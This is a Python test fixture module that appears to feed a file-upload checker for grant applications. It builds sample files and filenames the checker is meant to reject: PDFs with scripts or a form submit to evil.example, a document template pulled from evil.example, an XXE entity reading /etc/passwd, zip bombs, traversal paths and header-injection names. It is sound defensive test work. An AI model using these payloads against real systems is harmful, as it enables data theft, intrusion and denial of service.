"""Files that are not what they say, or that would do something; each made here, byte by byte.

`name`, content, and the fault that is expected; None for the few that are fine.
"""

import io
import struct
import zipfile
import zlib
from typing import NamedTuple

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from applicants.files.check import FileFault
from tests.grants.applying import a_pdf

TYPES = "application/vnd.openxmlformats-officedocument"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS" + b"-TEST-FILE!$H+H*"


class Upload(NamedTuple):
    name: str
    content: bytes
    fault: FileFault | None


def zipped(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def _types(kind: str, macro: bool = False) -> bytes:
    of = {"docx": "wordprocessingml.document", "xlsx": "spreadsheetml.sheet"}[kind]
    main = "application/vnd.ms-word.document.macroEnabled.main+xml" if macro else None
    return f'<Types><Override ContentType="{main or f"{TYPES}.{of}.main+xml"}"/></Types>'.encode()


def office(kind: str, macro: bool = False, **parts: bytes) -> bytes:
    inside = {"[Content_Types].xml": _types(kind, macro), "word/document.xml": b"<w:document/>"}
    return zipped({**inside, **parts})


def open_document(kind: str, *, manifest: bytes = b"<manifest/>", **parts: bytes) -> bytes:
    of = {"odt": "text", "ods": "spreadsheet"}[kind]
    mimetype = f"application/vnd.oasis.opendocument.{of}".encode()
    inside = {"mimetype": mimetype, "META-INF/manifest.xml": manifest, "content.xml": b"<x/>"}
    return zipped({**inside, **parts})


def pdf(catalog: dict[str, object] | None = None, password: str = "") -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(width=100, height=100)
    for key, value in (catalog or {}).items():
        target = page if key == "/Annots" else writer.root_object
        target[NameObject(key)] = _pdf_value(value)
    if password:
        writer.encrypt(password)
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def _pdf_value(value: object) -> object:
    if isinstance(value, dict):
        return DictionaryObject({NameObject(key): _pdf_value(one) for key, one in value.items()})
    if isinstance(value, list):
        return ArrayObject([_pdf_value(one) for one in value])
    text = str(value)
    return NameObject(text) if text.startswith("/") else TextStringObject(text)


def _with_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=100, height=100)
    writer.add_attachment("vabilo.exe", b"MZ" + b"\0" * 60)
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def png(width: int = 1, height: int = 1) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + crc

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + body


JPG_HEAD = "ffd8ffe000104a46494600010100000100010000"
JPG = bytes.fromhex(JPG_HEAD + "ffc0000b08001000100101110000ffd9")


def _bomb() -> bytes:
    return office("docx", **{"word/big.xml": b"\0" * 310_000_000})


def _claims(content: bytes, size: int) -> bytes:
    """The central directory says another unpacked size of the last part."""
    place = content.rfind(b"PK\x01\x02")
    return content[: place + 24] + struct.pack("<I", size) + content[place + 28 :]


def _overlapping() -> bytes:
    """Thousands of names for one and the same part: small, and huge when unpacked."""
    content = zipped({"[Content_Types].xml": _types("docx"), "a": b"\0" * 1_000_000})
    start, end = content.index(b"PK\x01\x02"), content.rindex(b"PK\x05\x06")
    entries = content[start:end]
    last = entries[entries.rindex(b"PK\x01\x02") :]
    many = entries + last * 400
    count = 2 + 400
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(many), start, 0)
    return content[:start] + many + tail


F = FileFault
_MACRO = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}
_JS = {"/S": "/JavaScript", "/JS": "app.alert(1)"}
UPLOADS: dict[str, Upload] = {
    "nothing": Upload("a.pdf", b"", F.EMPTY),
    "no-ending": Upload("vloga", a_pdf(), F.WRONG_TYPE),
    "other-ending": Upload("vloga.exe", b"MZ", F.WRONG_TYPE),
    "html": Upload("vloga.html", b"<script>alert(1)</script>", F.WRONG_TYPE),
    "svg": Upload("slika.svg", b"<svg onload='alert(1)'/>", F.WRONG_TYPE),
    "docm": Upload("vloga.docm", office("docx", True), F.WRONG_TYPE),
    "xlsm": Upload("vloga.xlsm", office("xlsx", True), F.WRONG_TYPE),
    "zip": Upload("vloga.zip", zipped({"a": b"b"}), F.WRONG_TYPE),
    "eicar": Upload("vloga.com", EICAR, F.WRONG_TYPE),
    "eicar-as-pdf": Upload("vloga.pdf", EICAR, F.NOT_WHAT_IT_SAYS),
    "exe-as-pdf": Upload("vloga.pdf", b"MZ" + b"\0" * 200, F.NOT_WHAT_IT_SAYS),
    "html-as-pdf": Upload("vloga.pdf", b"<html></html>", F.NOT_WHAT_IT_SAYS),
    "html-before-pdf": Upload("vloga.pdf", b"<script></script>" + a_pdf(), F.NOT_WHAT_IT_SAYS),
    "svg-as-png": Upload("slika.png", b"<svg onload='alert(1)'/>", F.NOT_WHAT_IT_SAYS),
    "html-as-jpg": Upload("slika.jpg", b"<html><script></script>", F.NOT_WHAT_IT_SAYS),
    "png-as-jpg": Upload("slika.jpg", png(), F.NOT_WHAT_IT_SAYS),
    "jpg-as-png": Upload("slika.png", JPG, F.NOT_WHAT_IT_SAYS),
    "gif-as-png": Upload("slika.png", b"GIF89a" + b"\0" * 20, F.NOT_WHAT_IT_SAYS),
    "text-as-docx": Upload("vloga.docx", b"text", F.NOT_WHAT_IT_SAYS),
    "pdf-as-docx": Upload("vloga.docx", a_pdf(), F.NOT_WHAT_IT_SAYS),
    "docx-as-pdf": Upload("vloga.pdf", office("docx"), F.NOT_WHAT_IT_SAYS),
    "docx-as-xlsx": Upload("vloga.xlsx", office("docx"), F.NOT_WHAT_IT_SAYS),
    "docx-as-odt": Upload("vloga.odt", office("docx"), F.NOT_WHAT_IT_SAYS),
    "ods-as-odt": Upload("vloga.odt", open_document("ods"), F.NOT_WHAT_IT_SAYS),
    "zip-as-docx": Upload("vloga.docx", zipped({"a": b"b"}), F.NOT_WHAT_IT_SAYS),
    "empty-zip-as-docx": Upload("vloga.docx", zipped({}), F.NOT_WHAT_IT_SAYS),
    "jar-as-docx": Upload(
        "vloga.docx", zipped({"META-INF/MANIFEST.MF": b"Main-Class: x"}), F.NOT_WHAT_IT_SAYS
    ),
    "pdf-and-zip": Upload("vloga.pdf", a_pdf() + zipped({"a": b"b"}), F.NOT_WHAT_IT_SAYS),
    "png-and-zip": Upload("slika.png", png() + zipped({"a.js": b"b"}), F.NOT_WHAT_IT_SAYS),
    "jpg-and-zip": Upload("slika.jpg", JPG + zipped({"a.js": b"b"}), F.NOT_WHAT_IT_SAYS),
    "zip-behind-text": Upload("vloga.docx", b"x" * 50 + office("docx"), F.NOT_WHAT_IT_SAYS),
    "pdf-with-password": Upload("vloga.pdf", pdf(password="skrivnost"), F.PROTECTED),
    "old-office": Upload(
        "vloga.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, F.PROTECTED
    ),
    "odt-encrypted": Upload(
        "vloga.odt",
        open_document("odt", manifest=b"<m><manifest:encryption-data/></m>"),
        F.PROTECTED,
    ),
    "pdf-script-on-opening": Upload("vloga.pdf", pdf({"/OpenAction": _JS}), F.ACTIVE),
    "pdf-script-in-names": Upload(
        "vloga.pdf", pdf({"/Names": {"/JavaScript": {"/Names": ["x", _JS]}}}), F.ACTIVE
    ),
    "pdf-script-of-a-link": Upload(
        "vloga.pdf", pdf({"/Annots": [{"/Subtype": "/Link", "/A": _JS}]}), F.ACTIVE
    ),
    "pdf-script-on-closing": Upload("vloga.pdf", pdf({"/AA": {"/WC": _JS}}), F.ACTIVE),
    "pdf-launch": Upload(
        "vloga.pdf", pdf({"/OpenAction": {"/S": "/Launch", "/F": "calc.exe"}}), F.ACTIVE
    ),
    "pdf-xfa": Upload("vloga.pdf", pdf({"/AcroForm": {"/XFA": "<xdp/>"}}), F.ACTIVE),
    "pdf-rich-media": Upload(
        "vloga.pdf",
        pdf({"/Annots": [{"/Subtype": "/RichMedia", "/RichMedia": "x"}]}),
        F.ACTIVE,
    ),
    "pdf-submits": Upload(
        "vloga.pdf",
        pdf({"/OpenAction": {"/S": "/SubmitForm", "/F": "https://evil.example"}}),
        F.ACTIVE,
    ),
    "pdf-imports": Upload(
        "vloga.pdf", pdf({"/OpenAction": {"/S": "/ImportData", "/F": "x.fdf"}}), F.ACTIVE
    ),
    "pdf-opens-another": Upload(
        "vloga.pdf", pdf({"/OpenAction": {"/S": "/GoToE", "/F": "x"}}), F.ACTIVE
    ),
    "pdf-with-a-program": Upload("vloga.pdf", _with_attachment(), F.ACTIVE),
    "docx-macro": Upload("vloga.docx", office("docx", True), F.ACTIVE),
    "docx-macro-part": Upload("vloga.docx", office("docx", **_MACRO), F.ACTIVE),
    "xlsx-macro-part": Upload(
        "vloga.xlsx", office("xlsx", **{"xl/vbaProject.bin": b"x"}), F.ACTIVE
    ),
    "xlsx-old-macro": Upload(
        "vloga.xlsx", office("xlsx", **{"xl/macrosheets/sheet1.xml": b"<x/>"}), F.ACTIVE
    ),
    "docx-activex": Upload(
        "vloga.docx", office("docx", **{"word/activeX/activeX1.xml": b"<x/>"}), F.ACTIVE
    ),
    "docx-embedded": Upload(
        "vloga.docx", office("docx", **{"word/embeddings/oleObject1.bin": b"x"}), F.ACTIVE
    ),
    "docx-remote-template": Upload(
        "vloga.docx",
        office(
            "docx",
            **{
                "word/_rels/settings.xml.rels": b'<Relationship TargetMode="External" '
                b'Type="x/attachedTemplate" Target="https://evil.example/x.dotm"/>'
            },
        ),
        F.ACTIVE,
    ),
    "odt-basic": Upload("vloga.odt", open_document("odt", **{"Basic/a.xml": b"x"}), F.ACTIVE),
    "ods-scripts": Upload("v.ods", open_document("ods", **{"Scripts/a.py": b"x"}), F.ACTIVE),
    "docx-entity": Upload(
        "vloga.docx",
        office(
            "docx",
            **{
                "word/document.xml": b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>'
                b"<w:document>&y;</w:document>"
            },
        ),
        F.DAMAGED,
    ),
    "odt-entity": Upload(
        "vloga.odt",
        open_document("odt", **{"content.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
        F.DAMAGED,
    ),
    "pdf-cut": Upload("vloga.pdf", a_pdf()[:200], F.DAMAGED),
    "pdf-only-head": Upload("vloga.pdf", b"%PDF-1.7\n", F.DAMAGED),
    "pdf-no-pages": Upload("vloga.pdf", b"%PDF-1.7\ntrailer<</Root 1 0 R>>\n%%EOF", F.DAMAGED),
    "pdf-circle": Upload(
        "vloga.pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1"
        b"/Kids[2 0 R]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
        F.DAMAGED,
    ),
    "pdf-noise": Upload("vloga.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40, F.DAMAGED),
    "docx-cut": Upload("vloga.docx", office("docx")[:-40], F.DAMAGED),
    "docx-noise": Upload("vloga.docx", b"PK\x03\x04" + bytes(range(256)) * 4, F.DAMAGED),
    "docx-wrong-checksum": Upload(
        "vloga.docx", office("docx").replace(b"PK\x01\x02", b"PK\x01\x03", 1), F.DAMAGED
    ),
    "bomb": Upload("vloga.docx", _bomb(), F.SWELLS),
    "bomb-that-lies": Upload("vloga.docx", _claims(office("docx"), 4_000_000_000), F.SWELLS),
    "bomb-overlapping": Upload("vloga.docx", _overlapping(), F.SWELLS),
    "bomb-of-names": Upload(
        "vloga.docx", office("docx", **{f"word/{n}.xml": b"" for n in range(5_100)}), F.SWELLS
    ),
    "traversal-inside": Upload(
        "vloga.docx", office("docx", **{"../../etc/cron.d/x": b"x"}), F.DAMAGED
    ),
    "png-huge": Upload("slika.png", png(60_000, 60_000), F.SWELLS),
    "jpg-huge": Upload(
        "slika.jpg", bytes.fromhex(JPG_HEAD + "ffc0000b08ffffffff0101110000ffd9"), F.SWELLS
    ),
    "jpg-without-frame": Upload("slika.jpg", bytes.fromhex(JPG_HEAD + "ffd9"), F.DAMAGED),
    "good-jpg": Upload("slika.jpeg", JPG, None),
    "png-without-size": Upload("slika.png", png(0, 0), F.DAMAGED),
    "png-cut": Upload("slika.png", png()[:12], F.DAMAGED),
    "good-pdf": Upload("vloga.pdf", a_pdf(), None),
    "good-docx": Upload("vloga.docx", office("docx"), None),
    "good-odt": Upload("vloga.odt", open_document("odt"), None),
    "good-png": Upload("slika.png", png(800, 600), None),
    "good-upper-ending": Upload("VLOGA.PDF", a_pdf(), None),
}
# What a name becomes; every one is a name of a harmless PDF.
NAMES: dict[str, tuple[str, str]] = {
    "traversal": ("../../etc/passwd.pdf", "passwd.pdf"),
    "traversal-windows": ("..\\..\\windows\\system.pdf", "system.pdf"),
    "absolute": ("/etc/shadow.pdf", "shadow.pdf"),
    "drive": ("C:\\vloga.pdf", "vloga.pdf"),
    "line-ends": ("vlo\r\nga: x.pdf", "vloga_ x.pdf"),
    "header": ("a.pdf\r\nSet-Cookie: x=1.pdf", "a.pdfSet-Cookie_ x=1.pdf"),
    "nul": ("vloga.exe\0.pdf", "vloga.exe.pdf"),
    "override": ("vloga\u202efdp.exe.pdf", "vlogafdp.exe.pdf"),
    "leading-dot": (".htaccess.pdf", "htaccess.pdf"),
    "only-ending": (".pdf", "file.pdf"),
    "only-dots": ("....pdf", "file.pdf"),
    "blanks": ("   .pdf", "file.pdf"),
    "trailing-blank": ("vloga.pdf  ", "vloga.pdf"),
    "trailing-dot-blank": ("vloga. .pdf", "vloga.pdf"),
    "reserved": ("CON.pdf", "CON.pdf"),
    "signs": ('a<b>c:d"e|f?g*h.pdf', "a_b_c_d_e_f_g_h.pdf"),
    "long": ("a" * 300 + ".pdf", "a" * 120 + ".pdf"),
    "combining": ("Vlogac\u030c.pdf", "Vlogač.pdf"),
    "ours": ("Prošnja č. 5 – žiro.pdf", "Prošnja č. 5 – žiro.pdf"),
    "cyrillic": ("Молба.pdf", "Молба.pdf"),
    "emoji": ("Zbor 🎶.pdf", "Zbor 🎶.pdf"),
    "zero-width": ("vlo\u200bga.pdf", "vloga.pdf"),
    "html": ("<img src=x onerror=alert(1)>.pdf", "_img src=x onerror=alert(1)_.pdf"),
    "template": ("{{ 31337|add:1 }}.pdf", "{{ 31337_add_1 }}.pdf"),
    "quotes": ("a'b;c=d.pdf", "a'b;c=d.pdf"),
    "percent": ("a%2e%2e%2f%00.pdf", "a%2e%2e%2f%00.pdf"),
    "semicolon": ('x"; filename="evil.exe.pdf', "x_; filename=_evil.exe.pdf"),
    "two-endings": ("vloga.pdf.exe.pdf", "vloga.pdf.exe.pdf"),
}
